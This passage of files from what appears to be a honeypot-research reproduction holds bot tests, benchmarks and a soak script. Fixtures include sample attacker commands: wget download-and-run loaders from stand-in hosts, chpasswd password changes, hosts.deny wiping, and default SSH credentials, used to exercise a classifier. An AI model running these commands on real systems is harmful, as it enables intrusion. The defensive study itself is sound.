            entry["outcome"] in OUTCOMES for entry in disconnected
        )

    def test_service_counters_are_merge_only(self, store):
        with telemetry.collecting() as registry:
            service = QueryService(store=store)
            run_load_test(
                service,
                ServiceLoadModel(seed=1, ticks=3, requests_per_tick=4),
            )
        export = registry.export()
        assert export["counters"]["service.requests"] == 12
        comparable = telemetry.comparable_view(export)
        assert not any(
            name.startswith("service.")
            for name in comparable["counters"]
        )


# ----------------------------------------------------------------------
# frontend translation (parser only — tier-1 opens no sockets)
# ----------------------------------------------------------------------


class TestFrontendParsing:
    def _frontend(self):
        return ServiceFrontend(QueryService(snapshot=tiny_snapshot()))

    def test_well_formed_line_parses(self):
        request = self._frontend()._parse(
            b'{"kind": "count", "params": {"day": "2023-09-15"},'
            b' "client_id": "c-1"}',
            "peer",
        )
        assert request.kind == "count"
        assert request.client_id == "c-1"
        assert dict(request.params) == {"day": "2023-09-15"}

    def test_peer_is_the_default_client_and_status_the_priority(self):
        request = self._frontend()._parse(b'{"kind": "status"}', "1.2.3.4")
        assert request.client_id == "1.2.3.4"
        assert request.priority == PRIORITY_STATUS

    def test_garbage_lines_do_not_parse(self):
        frontend = self._frontend()
        for line in (b"not json", b"[1, 2]", b'{"kind": "count", "params": 3}'):
            assert frontend._parse(line, "peer") is None

    async def test_unparseable_input_rejects_through_the_ladder(self):
        service = QueryService(snapshot=tiny_snapshot())
        # What _handle_connection submits for an unparseable line.
        response = await service.handle(
            Request(client_id="peer", kind="unparseable")
        )
        assert response.outcome == "rejected"
        assert response.reason == "malformed"
