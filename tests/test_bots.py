"""Bot behaviours: every bot produces intents consistent with its paper
category and the simulator's ground-truth labelling."""

from __future__ import annotations

import random
from datetime import date

import pytest

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.attackers.base import Bot, BotContext
from repro.attackers.bots.curl_proxy import TARGETED_HONEYPOTS
from repro.attackers.bots.mdrfckr import (
    C2_INFRASTRUCTURE,
    MDRFCKR_KEY,
    VARIANT_START,
)
from repro.attackers.fleetplan import build_fleet, find_bot
from repro.attackers.labels import COMMANDLESS_BOTS, EXPECTED_CATEGORY
from repro.attackers.infrastructure import StorageInfrastructure
from repro.attackers.malware import MalwareFactory
from repro.config import DEFAULT_CONFIG
from repro.net.population import build_base_population
from repro.util.rng import RngTree


@pytest.fixture(scope="module")
def context():
    tree = RngTree(13)
    population = build_base_population(tree.child("net"), 65)
    return BotContext(
        config=DEFAULT_CONFIG,
        population=population,
        infrastructure=StorageInfrastructure(
            DEFAULT_CONFIG, population, tree.child("infra")
        ),
        malware=MalwareFactory(tree.child("malware")),
        tree=tree.child("bots"),
    )


@pytest.fixture(scope="module")
def fleet(context):
    return build_fleet(context.population, RngTree(13).child("fleet"), DEFAULT_CONFIG)


_ACTIVE_DAY = {
    # bots whose campaigns are not active on the generic probe day
    "bbox_unlabelled": date(2022, 3, 1),
    "bbox_loaderwget": date(2022, 3, 1),
    "bbox_echo_elf": date(2022, 11, 10),
    "bbox_rand_exec": date(2022, 8, 1),
    "bbox_rand_exec#noexec": date(2022, 8, 1),
    "curl_maxred": date(2024, 2, 1),
    "mdrfckr_variant": date(2023, 6, 1),
    "mdrfckr_base64": date(2022, 10, 12),
    "xorddos": date(2023, 6, 1),
}
_DEFAULT_PROBE_DAY = date(2023, 5, 10)


class TestCategoryMapping:
    def test_every_mapped_bot_exists(self, fleet):
        names = {bot.name for bot in fleet}
        mapped = set(EXPECTED_CATEGORY)
        missing = mapped - names
        assert not missing, f"mapping refers to unknown bots: {missing}"

    def test_every_command_bot_is_mapped(self, fleet):
        unmapped = []
        for bot in fleet:
            if bot.name in EXPECTED_CATEGORY:
                continue
            if bot.name in COMMANDLESS_BOTS:
                continue
            unmapped.append(bot.name)
        assert not unmapped, f"bots without category expectation: {unmapped}"

    @pytest.mark.parametrize("bot_name", sorted(EXPECTED_CATEGORY))
    def test_bot_sessions_classify_as_expected(self, context, fleet, bot_name):
        bot = find_bot(fleet, bot_name)
        day = _ACTIVE_DAY.get(bot_name, _DEFAULT_PROBE_DAY)
        rng = random.Random(99)
        intent = bot.build_intent(context, day, rng, 0)
        text = " ; ".join(intent.command_lines)
        assert DEFAULT_CLASSIFIER.classify_text(text) == EXPECTED_CATEGORY[bot_name]


class TestVolumeScaling:
    def test_session_count_scales_with_config(self, context, fleet):
        bot = find_bot(fleet, "echo_OK")
        small = sum(
            bot.session_count(context, date(2023, 5, d)) for d in range(1, 29)
        )
        big_config = DEFAULT_CONFIG.replace(scale=DEFAULT_CONFIG.scale * 10)
        big_context = BotContext(
            config=big_config,
            population=context.population,
            infrastructure=context.infrastructure,
            malware=context.malware,
            tree=context.tree,
        )
        big = sum(
            bot.session_count(big_context, date(2023, 5, d)) for d in range(1, 29)
        )
        assert big > small * 4

    def test_zero_outside_activity(self, context, fleet):
        bot = find_bot(fleet, "curl_maxred")
        assert bot.session_count(context, date(2022, 6, 1)) == 0


class TestMdrfckrActor:
    def test_key_constant_and_labelled(self):
        assert "mdrfckr" in MDRFCKR_KEY
        assert "AAAAB3NzaC1yc2EAAAADQAB" not in MDRFCKR_KEY  # sanity

    def test_initial_changes_password(self, context, fleet):
        bot = find_bot(fleet, "mdrfckr")
        intent = bot.build_intent(context, date(2023, 5, 10), random.Random(1), 0)
        text = " ; ".join(intent.command_lines)
        assert "chpasswd" in text
        assert "hosts.deny" not in text

    def test_variant_behaviour_changes(self, context, fleet):
        bot = find_bot(fleet, "mdrfckr_variant")
        intent = bot.build_intent(context, date(2023, 5, 10), random.Random(1), 0)
        text = " ; ".join(intent.command_lines)
        assert "chpasswd" not in text
        assert "rm -rf /tmp/auth.sh /tmp/secure.sh" in text
        assert 'echo "" > /etc/hosts.deny' in text

    def test_variant_starts_2022_12_08(self, fleet):
        bot = find_bot(fleet, "mdrfckr_variant")
        assert bot.rate(VARIANT_START - date.resolution) == 0
        assert bot.rate(VARIANT_START) > 0

    def test_variant_order_of_magnitude_smaller(self, fleet):
        initial = find_bot(fleet, "mdrfckr")
        variant = find_bot(fleet, "mdrfckr_variant")
        day = date(2023, 6, 1)
        assert initial.rate(day) / variant.rate(day) >= 8

    def test_suppression_during_events(self, fleet):
        bot = find_bot(fleet, "mdrfckr")
        assert bot.rate(date(2022, 10, 12)) < 0.01 * bot.rate(date(2022, 11, 15))

    def test_base64_only_in_windows(self, fleet):
        bot = find_bot(fleet, "mdrfckr_base64")
        assert bot.rate(date(2022, 10, 12)) > 0
        assert bot.rate(date(2022, 11, 15)) == 0

    def test_base64_scripts_decode(self, context, fleet):
        import base64 as b64
        import re

        bot = find_bot(fleet, "mdrfckr_base64")
        kinds = set()
        for index in range(12):
            intent = bot.build_intent(
                context, date(2022, 10, 12), random.Random(index), 0
            )
            line = intent.command_lines[-1]
            blob = re.search(r"echo (\S+) \|", line).group(1)
            body = b64.b64decode(blob).decode()
            if "cleanup" in body:
                kinds.add("cleanup")
                for ip, _ in C2_INFRASTRUCTURE:
                    assert ip in body
            elif "irc" in body.lower():
                kinds.add("shellbot")
            else:
                kinds.add("cryptominer")
        assert kinds == {"cleanup", "shellbot", "cryptominer"}

    def test_login3245_no_commands(self, context, fleet):
        bot = find_bot(fleet, "login_3245gs5662d34")
        intent = bot.build_intent(context, date(2023, 1, 10), random.Random(0), 0)
        assert intent.command_lines == ()
        assert intent.credentials == (("root", "3245gs5662d34"),)

    def test_login3245_first_day_after_18utc(self, fleet):
        bot = find_bot(fleet, "login_3245gs5662d34")
        rng = random.Random(0)
        for _ in range(20):
            assert bot.start_seconds(rng, VARIANT_START) >= 18 * 3600

    def test_login3245_ip_pool_mostly_shared(self, fleet):
        mdrfckr = find_bot(fleet, "mdrfckr")
        campaign = find_bot(fleet, "login_3245gs5662d34")
        shared = set(mdrfckr.pool.ips) & set(campaign.pool.ips)
        assert len(shared) == len(mdrfckr.pool.ips)


class TestCurlMaxred:
    def test_exactly_four_client_ips(self, fleet):
        bot = find_bot(fleet, "curl_maxred")
        assert len(bot.pool) == 4

    def test_session_shape(self, context, fleet):
        bot = find_bot(fleet, "curl_maxred")
        intent = bot.build_intent(context, date(2024, 2, 1), random.Random(0), 0)
        assert 90 <= len(intent.command_lines) <= 110
        assert all(line.startswith("curl ") for line in intent.command_lines)
        assert all("--max-redirs" in line for line in intent.command_lines)
        assert intent.hold_open

    def test_unique_cookies(self, context, fleet):
        bot = find_bot(fleet, "curl_maxred")
        intent = bot.build_intent(context, date(2024, 2, 1), random.Random(0), 0)
        cookies = [
            line.split("--cookie '")[1].split("'")[0]
            for line in intent.command_lines
        ]
        assert len(set(cookies)) == len(cookies)

    def test_targets_restricted_honeypots(self, fleet):
        bot = find_bot(fleet, "curl_maxred")
        rng = random.Random(0)
        indexes = {bot.choose_honeypot_index(rng, 221) for _ in range(500)}
        assert max(indexes) < TARGETED_HONEYPOTS


class TestHoneypotHunters:
    def test_phil_mostly_silent(self, context, fleet):
        bot = find_bot(fleet, "phil_scanner")
        silent = 0
        for index in range(100):
            intent = bot.build_intent(
                context, date(2023, 5, 10), random.Random(index), 0
            )
            assert intent.credentials[0][0] == "phil"
            if not intent.command_lines:
                silent += 1
        assert silent >= 80

    def test_richard_always_fails_policy(self, context, fleet):
        from repro.honeypot.auth import DEFAULT_POLICY

        bot = find_bot(fleet, "richard_scanner")
        intent = bot.build_intent(context, date(2023, 5, 10), random.Random(0), 0)
        username, password = intent.credentials[0]
        assert username == "richard"
        assert not DEFAULT_POLICY.accepts(username, password)


class TestTvBox:
    def test_synchronized_waves(self, fleet):
        dreambox = find_bot(fleet, "tvbox_dreambox")
        vertex = find_bot(fleet, "tvbox_vertex25ektks123")
        for day in (date(2023, 4, 1), date(2024, 2, 1), date(2022, 6, 1)):
            assert (dreambox.rate(day) > 0) == (vertex.rate(day) > 0)

    def test_default_credentials(self, context, fleet):
        bot = find_bot(fleet, "tvbox_dreambox")
        intent = bot.build_intent(context, date(2023, 4, 1), random.Random(0), 0)
        assert intent.credentials == (("root", "dreambox"),)


class TestFleet:
    def test_unique_names(self, fleet):
        names = [bot.name for bot in fleet]
        assert len(names) == len(set(names))

    def test_fleet_size(self, fleet):
        assert len(fleet) > 55

    def test_find_bot_missing(self, fleet):
        with pytest.raises(KeyError):
            find_bot(fleet, "nope")

    def test_xorddos_stops_early_2024(self, fleet):
        bot = find_bot(fleet, "xorddos")
        assert bot.rate(date(2023, 12, 1)) > 0
        assert bot.rate(date(2024, 3, 1)) == 0

    def test_bbox_unlabelled_ends_mid_2022(self, fleet):
        bot = find_bot(fleet, "bbox_unlabelled")
        assert bot.rate(date(2022, 6, 1)) > 0
        assert bot.rate(date(2022, 9, 1)) == 0
