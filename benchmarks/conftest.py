"""Benchmark fixtures: one bench-scale dataset shared by all benches.

The dataset (and its clustering, which Figures 5/6 share) is built once
per benchmark session so each bench measures only its experiment's
analysis work — the paper's pipeline cost per figure.
"""

from __future__ import annotations

import pytest

from repro.config import BENCH_CONFIG
from repro.experiments.dataset import build_dataset
from repro.experiments.runner import load_all_experiments


@pytest.fixture(scope="session")
def bench_dataset():
    load_all_experiments()
    dataset = build_dataset(BENCH_CONFIG)
    dataset.clustering()  # pre-compute the shared clustering products
    return dataset


def run_experiment_bench(benchmark, dataset, experiment_id: str):
    """Benchmark one experiment's run() against the shared dataset."""
    from repro.experiments.base import get_experiment

    experiment = get_experiment(experiment_id)
    result = benchmark.pedantic(
        lambda: experiment.run(dataset), rounds=3, iterations=1, warmup_rounds=1
    )
    assert result.rows
    return result
