"""Benchmark: regenerate Figure 4(a): exec sessions, file exists.

Prints the regenerated rows/series once per benchmark session via the
returned ExperimentResult; the benchmark measures the analysis cost at
BENCH_CONFIG scale.
"""

from conftest import run_experiment_bench


def test_fig04a_benchmark(benchmark, bench_dataset):
    result = run_experiment_bench(benchmark, bench_dataset, "fig04a")
    assert result.experiment_id == "fig04a"
