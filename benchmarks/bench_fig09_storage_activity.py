"""Benchmark: regenerate Figure 9: storage activity recalls.

Prints the regenerated rows/series once per benchmark session via the
returned ExperimentResult; the benchmark measures the analysis cost at
BENCH_CONFIG scale.
"""

from conftest import run_experiment_bench


def test_fig09_benchmark(benchmark, bench_dataset):
    result = run_experiment_bench(benchmark, bench_dataset, "fig09")
    assert result.experiment_id == "fig09"
