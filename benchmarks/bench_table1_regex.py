"""Benchmark: regenerate Table 1: regex classification coverage.

Prints the regenerated rows/series once per benchmark session via the
returned ExperimentResult; the benchmark measures the analysis cost at
BENCH_CONFIG scale.
"""

from conftest import run_experiment_bench


def test_table1_benchmark(benchmark, bench_dataset):
    result = run_experiment_bench(benchmark, bench_dataset, "table1")
    assert result.experiment_id == "table1"
