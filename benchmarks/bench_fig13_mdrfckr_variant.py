"""Benchmark: regenerate Figure 13: mdrfckr variants vs campaign.

Prints the regenerated rows/series once per benchmark session via the
returned ExperimentResult; the benchmark measures the analysis cost at
BENCH_CONFIG scale.
"""

from conftest import run_experiment_bench


def test_fig13_benchmark(benchmark, bench_dataset):
    result = run_experiment_bench(benchmark, bench_dataset, "fig13")
    assert result.experiment_id == "fig13"
