"""Benchmark: regenerate Figure 3(a): state modification without exec.

Prints the regenerated rows/series once per benchmark session via the
returned ExperimentResult; the benchmark measures the analysis cost at
BENCH_CONFIG scale.
"""

from conftest import run_experiment_bench


def test_fig03a_benchmark(benchmark, bench_dataset):
    result = run_experiment_bench(benchmark, bench_dataset, "fig03a")
    assert result.experiment_id == "fig03a"
