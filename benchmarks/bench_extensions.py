"""Benchmarks for the extension experiments (ablations + stateful)."""

from conftest import run_experiment_bench


def test_ext_stateful_benchmark(benchmark, bench_dataset):
    run_experiment_bench(benchmark, bench_dataset, "ext_stateful")


def test_ext_ablation_tokenizer_benchmark(benchmark, bench_dataset):
    run_experiment_bench(benchmark, bench_dataset, "ext_ablation_tokenizer")


def test_ext_ablation_ruleorder_benchmark(benchmark, bench_dataset):
    run_experiment_bench(benchmark, bench_dataset, "ext_ablation_ruleorder")


def test_ext_ablation_detection_benchmark(benchmark, bench_dataset):
    run_experiment_bench(benchmark, bench_dataset, "ext_ablation_detection")
