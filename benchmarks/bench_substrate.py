"""Substrate microbenchmarks: the pieces every experiment sits on.

These quantify the cost of the simulator and analysis primitives
themselves (honeypot shell throughput, classification throughput,
token-DLD, K-medoids, simulation day rate), independent of any figure.
"""

from __future__ import annotations

import random
from datetime import date

import numpy as np

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.dld import damerau_levenshtein
from repro.analysis.kmedoids import kmedoids
from repro.attackers.orchestrator import run_simulation
from repro.config import SimulationConfig
from repro.honeypot.cowrie import CowrieHoneypot
from repro.honeypot.session import ConnectionIntent

_LOADER_LINES = (
    "cd /tmp || cd /var/run || cd /mnt",
    "wget http://10.1.2.3/bins.sh -O bins.sh",
    "chmod 777 bins.sh",
    "./bins.sh",
    "rm -rf bins.sh",
)


def test_honeypot_session_throughput(benchmark):
    honeypot = CowrieHoneypot(honeypot_id="hp", ip="192.0.2.1")
    intent = ConnectionIntent(
        client_ip="1.1.1.1",
        credentials=(("root", "admin"),),
        command_lines=_LOADER_LINES,
        remote_files=(("http://10.1.2.3/bins.sh", b"payload"),),
    )

    def run_batch():
        for index in range(50):
            honeypot.handle(intent, float(index))

    benchmark(run_batch)


def test_classifier_throughput(benchmark):
    texts = [
        "cd /tmp; wget http://h/f; chmod +x f; ./f",
        'echo -e "\\x6F\\x6B"',
        "uname -s -v -n -r -m",
        "/bin/busybox QKZDF; /bin/busybox wget http://h/f",
        'echo "root:A1b2C3d4E5f6G7h8Z"|chpasswd',
        "scp evil:/x /tmp/x; ./x",
    ] * 200

    def classify_all():
        return [DEFAULT_CLASSIFIER.classify_text(t) for t in texts]

    labels = benchmark(classify_all)
    assert len(labels) == len(texts)


def test_token_dld(benchmark):
    rng = random.Random(0)
    vocabulary = ["cd", "/tmp", "wget", "<url>", "chmod", "777", "rm", "-rf"]
    a = [rng.choice(vocabulary) for _ in range(60)]
    b = [rng.choice(vocabulary) for _ in range(60)]

    def pairwise():
        return [damerau_levenshtein(a, b) for _ in range(30)]

    benchmark(pairwise)


def test_kmedoids_200_points(benchmark):
    rng = np.random.default_rng(0)
    points = rng.random((200, 2))
    diffs = points[:, None, :] - points[None, :, :]
    matrix = np.sqrt((diffs**2).sum(axis=2))

    result = benchmark.pedantic(
        lambda: kmedoids(matrix, 8, seed=0), rounds=3, iterations=1
    )
    assert result.k == 8


def test_simulation_one_week(benchmark):
    config = SimulationConfig(
        seed=99, scale=1e-4, start=date(2022, 5, 1), end=date(2022, 5, 7)
    )

    result = benchmark.pedantic(
        lambda: run_simulation(config), rounds=3, iterations=1
    )
    assert len(result.database) > 0
