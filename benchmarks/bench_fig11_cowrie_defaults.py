"""Benchmark: regenerate Figure 11: Cowrie default accounts.

Prints the regenerated rows/series once per benchmark session via the
returned ExperimentResult; the benchmark measures the analysis cost at
BENCH_CONFIG scale.
"""

from conftest import run_experiment_bench


def test_fig11_benchmark(benchmark, bench_dataset):
    result = run_experiment_bench(benchmark, bench_dataset, "fig11")
    assert result.experiment_id == "fig11"
