"""Parallel-engine benchmarks: serial vs sharded day-loop, serial vs
chunked DLD matrix.

These quantify what ``--workers N`` buys.  Speedup depends on core
count, so no thresholds are asserted here — each bench instead asserts
the *equivalence* contract (digest / bit-identical matrix), which must
hold on any machine.  The ``repro bench`` CLI subcommand is the
headline harness; these keep the comparison visible in the regular
pytest-benchmark table alongside the per-figure benches.
"""

from __future__ import annotations

import random
from datetime import date

import numpy as np

from repro.analysis.distance import clear_distance_caches, distance_matrix
from repro.attackers.orchestrator import run_simulation
from repro.config import SimulationConfig

_BENCH_WINDOW = SimulationConfig(
    seed=99, scale=1e-4, start=date(2022, 5, 1), end=date(2022, 6, 30)
)


def _token_sequences(count: int) -> list[list[str]]:
    rng = random.Random(0)
    vocabulary = ["cd", "/tmp", "wget", "<url>", "chmod", "777", "rm", "-rf"]
    return [
        [rng.choice(vocabulary) for _ in range(rng.randrange(4, 48))]
        for _ in range(count)
    ]


def test_simulation_two_months_serial(benchmark):
    result = benchmark.pedantic(
        lambda: run_simulation(_BENCH_WINDOW), rounds=3, iterations=1
    )
    assert len(result.database) > 0


def test_simulation_two_months_two_workers(benchmark):
    serial_digest = run_simulation(_BENCH_WINDOW).database.digest()
    result = benchmark.pedantic(
        lambda: run_simulation(_BENCH_WINDOW, workers=2), rounds=3, iterations=1
    )
    assert result.database.digest() == serial_digest


def test_dld_matrix_300_serial(benchmark):
    tokens = _token_sequences(300)

    def build():
        clear_distance_caches()
        return distance_matrix(tokens)

    matrix = benchmark.pedantic(build, rounds=3, iterations=1)
    assert matrix.shape == (300, 300)


def test_dld_matrix_300_two_workers(benchmark):
    tokens = _token_sequences(300)
    clear_distance_caches()
    serial = distance_matrix(tokens)

    def build():
        clear_distance_caches()
        return distance_matrix(tokens, workers=2)

    matrix = benchmark.pedantic(build, rounds=3, iterations=1)
    assert np.array_equal(matrix, serial)
