"""Benchmark: regenerate Figure 8(a): storage AS age.

Prints the regenerated rows/series once per benchmark session via the
returned ExperimentResult; the benchmark measures the analysis cost at
BENCH_CONFIG scale.
"""

from conftest import run_experiment_bench


def test_fig08a_benchmark(benchmark, bench_dataset):
    result = run_experiment_bench(benchmark, bench_dataset, "fig08a")
    assert result.experiment_id == "fig08a"
