#!/usr/bin/env python
"""Nightly integrity soak: stress the pipeline end to end and audit it.

Runs the full robustness story in one go, against the `stress` fault
profile (outages + churn + lossy transport + checkpoint corruption +
log corruption + worker crashes):

1. serial vs parallel at 2 and 4 workers — dataset digest and collector
   accounting must be identical;
2. a checkpointed run (corruption faults live) killed mid-window and
   resumed — digest must equal the uninterrupted serial run;
3. a corrupted JSONL export, recovered leniently — `repro verify` must
   PASS (every loss quarantined with provenance) and the recovery
   accounting must balance;
4. an indexed artifact tree under every index-corruption mode — the
   resilient store must answer identically to a clean index via scan
   fallback, `repro verify` must flag the damage as repairable
   (exit 2) and `--rebuild-index` must restore a clean audit;
5. a deliberately mangled copy without recovery — `repro verify` must
   FAIL (unexplained damage is never waved through);
6. a flood-recovery leg: the same stress window under the `storm`
   flood preset — serial vs parallel digests and the shed ledger must
   be identical, the extended conservation law must balance with
   `shed > 0`, and a watchdog-armed run (generous shard deadline) must
   reproduce the same bytes;
7. a long-corpus LSH recall leg: the exact DLD matrix over a
   `--lsh-corpus`-sized synthetic corpus is the oracle for a
   recall-vs-candidate-ratio sweep across LSH band counts — every
   measured sketch entry must equal the exact value bit for bit, and
   the shipped default config must hold ≥ 0.99 close-pair recall at a
   < 0.25 candidate ratio (the tuning claim in
   `repro.analysis.sketch` made falsifiable nightly);
8. a stream-chaos leg: the supervised stream engine under elevated
   stream faults (`chaos` preset) on top of the storm flood — two runs
   of the same seed must produce identical digests *and* identical
   breaker/mode-ladder timelines, the conservation ledger (including
   the extended `admitted == stored + deduplicated` law) must balance,
   a mid-run interrupt must resume to the same final digest, and a
   fault-free supervised replay must stay byte-identical to batch;
9. a stream-serve leg: the same chaos stream with a snapshot publisher
   attached and a live query burst fired at every published day
   boundary — digests and accounting must stay byte-identical to the
   detached run, and a full chaos-profile service load test over the
   run's exported store must resolve every request contractually
   (zero unserved) and replay to an identical request-outcome ledger.

Every numbered item is a registered *leg* — `--only <leg>` runs one in
isolation (see `--list-legs`).  Exit code 0 only when every executed
check holds.  Designed for the scheduled `soak` workflow but runnable
locally:

    PYTHONPATH=src python scripts/soak.py --scale 1e-4
    PYTHONPATH=src python scripts/soak.py --only stream-chaos
"""

from __future__ import annotations

import argparse
import random
import shutil
import sys
import tempfile
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Callable

import numpy as np

from repro import telemetry
from repro.attackers.orchestrator import run_simulation
from repro.config import SimulationConfig
from repro.faults.corruption import build_log_corruptor, corrupt_file
from repro.faults.plan import FaultProfile
from repro.honeynet.io import read_jsonl, recover_jsonl, write_jsonl
from repro.integrity.verify import audit_tree
from repro.util.rng import RngTree

#: A window long enough to cross the paper outage and several churn
#: events, short enough for a nightly job.
SOAK_WINDOW = dict(start=date(2023, 8, 1), end=date(2023, 11, 15))

#: Normalized DLD below which a pair counts as "close" for the LSH
#: recall sweep — matches the bench leg (`repro bench --sketch-sample`).
LSH_CLOSE_THRESHOLD = 0.3

#: Floors the *default* sketch config must hold on the long corpus
#: (the tuning claim documented on `DEFAULT_SKETCH_CONFIG`).
LSH_RECALL_FLOOR = 0.99
LSH_RATIO_BAR = 0.25


def fail(message: str) -> None:
    print(f"FAIL: {message}")
    raise SystemExit(1)


@dataclass
class SoakContext:
    """Everything a soak leg may need, built once per invocation.

    The serial reference run is expensive, so it is computed lazily —
    `--only` runs of legs that never touch it skip it entirely.
    """

    config: SimulationConfig
    work: Path
    seed: int
    lsh_corpus: int
    _serial: object = field(default=None, repr=False)

    @property
    def serial(self):
        if self._serial is None:
            print("building serial reference run…")
            self._serial = run_simulation(self.config)
            print(f"serial digest: {self._serial.database.digest()}")
        return self._serial


#: Registered soak legs, in execution order: name -> leg(ctx).
LEGS: dict[str, Callable[[SoakContext], None]] = {}


def leg(name: str):
    """Register a soak leg under ``name`` (addressable via ``--only``)."""

    def register(fn: Callable[[SoakContext], None]):
        LEGS[name] = fn
        return fn

    return register


def check_parallel_equivalence(config: SimulationConfig, serial) -> None:
    for workers in (2, 4):
        with telemetry.collecting() as registry:
            parallel = run_simulation(config, workers=workers)
        crashes = registry.counters.get("parallel.worker_crashes", 0)
        retries = registry.counters.get("parallel.shard_retries", 0)
        fallbacks = registry.counters.get("parallel.serial_fallbacks", 0)
        print(
            f"workers={workers}: digest {parallel.database.digest()[:16]}… "
            f"({crashes} crashes, {retries} retries, {fallbacks} fallbacks)"
        )
        if parallel.database.digest() != serial.database.digest():
            fail(f"parallel digest diverged at workers={workers}")
        if parallel.collector.accounting() != serial.collector.accounting():
            fail(f"collector accounting diverged at workers={workers}")


def check_checkpoint_recovery(
    config: SimulationConfig, serial, work: Path
) -> None:
    checkpoint = work / "soak.ckpt"
    with telemetry.collecting() as registry:
        run_simulation(
            config,
            checkpoint_path=checkpoint,
            checkpoint_every_days=14,
            stop_after=date(2023, 10, 2),
        )
        resumed = run_simulation(
            config, checkpoint_path=checkpoint, resume=True
        )
    corruptions = registry.counters.get("checkpoint.corruptions", 0)
    rejected = registry.counters.get("checkpoint.rejected_generations", 0)
    print(
        f"checkpoint resume: {corruptions} saves corrupted, "
        f"{rejected} generations rejected at resume"
    )
    if resumed.database.digest() != serial.database.digest():
        fail("resumed digest diverged from uninterrupted serial run")
    audit = audit_tree(work)
    if not audit.ok:
        print(audit.render())
        fail("checkpoint tree failed verification")


def check_export_recovery(config: SimulationConfig, serial, work: Path) -> None:
    export_dir = work / "export"
    export_dir.mkdir()
    path = export_dir / "sessions.jsonl"
    corruptor = build_log_corruptor(
        config.faults.integrity,
        RngTree(config.seed).child("faults", "integrity", "log", path.name),
    )
    write_jsonl(serial.database.sessions, path, corruptor=corruptor)
    report = recover_jsonl(path).report
    read_jsonl(path, mode="lenient")  # populate the quarantine store
    print(
        f"export: {report.recovered} recovered, {report.duplicates} duplicates "
        f"dropped, {report.reordered} reordered, {report.lost} quarantined"
    )
    if not report.conservation_balanced():
        fail("recovery conservation accounting does not balance")
    audit = audit_tree(export_dir)
    print(audit.render())
    if not audit.ok:
        fail("recovered export tree failed verification")
    if audit.records_lost != audit.quarantine_entries:
        fail("quarantine store does not cover every lost record")


def check_flood_overload(config: SimulationConfig) -> None:
    """Overload leg: digest equality and a balanced shed ledger under
    the storm flood, with and without the hung-worker watchdog."""
    import dataclasses

    from repro.faults.plan import FloodFaults

    flood_config = config.replace(
        faults=dataclasses.replace(
            config.faults, flood=FloodFaults.from_name("storm")
        )
    )
    serial = run_simulation(flood_config)
    collector = serial.collector
    print(
        f"flood: {collector.generated} generated, {collector.shed} shed, "
        f"{collector.deferred} deferred, digest {serial.database.digest()[:16]}…"
    )
    if not collector.accounting_balanced():
        fail("flood run's conservation accounting does not balance")
    if collector.shed == 0:
        fail("storm flood shed nothing — admission gate not engaging")
    if collector.admitted != len(collector.sessions) + collector.deduplicated:
        fail("admitted != stored + deduplicated under the flood gate")
    parallel = run_simulation(flood_config, workers=2)
    if parallel.database.digest() != serial.database.digest():
        fail("flood digest diverged between serial and parallel")
    if parallel.collector.accounting() != serial.collector.accounting():
        fail("flood shed ledger diverged between serial and parallel")
    with telemetry.collecting() as registry:
        watched = run_simulation(
            flood_config.replace(shard_deadline_s=600.0), workers=2
        )
    breaches = registry.counters.get("overload.watchdog.hard_breaches", 0)
    print(f"watchdog-armed flood run: {breaches} hard breaches")
    if watched.database.digest() != serial.database.digest():
        fail("watchdog-armed flood digest diverged")
    if breaches:
        fail("healthy flood run breached its generous hard deadline")


def check_index_resilience(serial, work: Path) -> None:
    """Store leg: under every index-corruption mode the resilient store
    answers identically to a clean index, verify flags repairable
    damage as exit 2, and --rebuild-index restores a clean audit."""
    from repro.cli import main as cli_main
    from repro.faults.corruption import INDEX_CORRUPTION_MODES, corrupt_index
    from repro.store import (
        ResilientArtifactStore,
        export_indexed_tree,
        index_path_for,
    )

    sessions = serial.database.sessions[:500]
    clean_dir = work / "store-clean"
    export_indexed_tree(sessions, clean_dir)
    baseline = ResilientArtifactStore(clean_dir)
    expected_ids = baseline.session_ids()
    expected_by_day = baseline.count_by("day")
    expected_digest = baseline.database().digest()
    baseline_source = baseline.source
    baseline.close()
    if baseline_source != "index":
        fail("clean index tree did not serve from the index")

    for mode in INDEX_CORRUPTION_MODES:
        tree = work / f"store-{mode}"
        export_indexed_tree(sessions, tree)
        corrupt_index(index_path_for(tree), mode, random.Random(41))
        with telemetry.collecting() as registry:
            store = ResilientArtifactStore(tree)
            ids = store.session_ids()
            by_day = store.count_by("day")
            digest = store.database().digest()
            source = store.source
            store.close()
        fallbacks = registry.counters.get("store.fallback", 0)
        print(
            f"index {mode}: source={source} "
            f"({fallbacks} fallbacks), {len(ids)} sessions"
        )
        if digest != expected_digest:
            fail(f"scan-path dataset diverged under index corruption mode {mode}")
        # Structural damage (truncate, drop-rows) is always caught at
        # open, so these answers must come via the scan and be exact.
        # A bitflip can land anywhere: a free page (benign), a broken
        # page (caught at open), or live cell content — the last is
        # only detectable by the verify audit's row cross-check, which
        # is exactly what runs next.
        if mode != "bitflip" and (ids, by_day) != (expected_ids, expected_by_day):
            fail(f"store answers diverged under index corruption mode {mode}")
        exit_code = cli_main(["verify", str(tree)])
        if mode == "bitflip":
            if exit_code not in (0, 2):
                fail(f"verify exit {exit_code} under {mode} (wanted 0 or 2)")
        elif exit_code != 2:
            fail(f"verify exit {exit_code} under {mode} (wanted 2: index-only)")
        if exit_code == 2:
            if cli_main(["verify", str(tree), "--rebuild-index"]) != 0:
                fail(f"--rebuild-index did not repair the {mode}-damaged tree")
            if cli_main(["verify", str(tree)]) != 0:
                fail(f"rebuilt {mode} tree still fails verification")
        healed = ResilientArtifactStore(tree)
        healed_answers = (healed.session_ids(), healed.count_by("day"))
        healed_source = healed.source
        healed.close()
        if healed_answers != (expected_ids, expected_by_day):
            fail(f"post-repair answers diverged under {mode}")
        if healed_source != "index":
            fail(f"post-repair tree still not serving from the index ({mode})")


def check_lsh_recall(seed: int, corpus_size: int) -> None:
    """LSH leg: recall-vs-ratio sweep on a long synthetic corpus, with
    the exact DLD matrix as the oracle.  Every measured sketch entry
    must equal the exact value bit for bit for *every* band count; the
    shipped default must additionally hold the recall/ratio floors."""
    from repro.analysis.distance import distance_matrix
    from repro.analysis.sketch import (
        DEFAULT_SKETCH_CONFIG,
        SketchConfig,
        clear_sketch_caches,
        sketch_distance_matrix,
        synthetic_token_corpus,
    )

    corpus = synthetic_token_corpus(corpus_size, seed=seed)
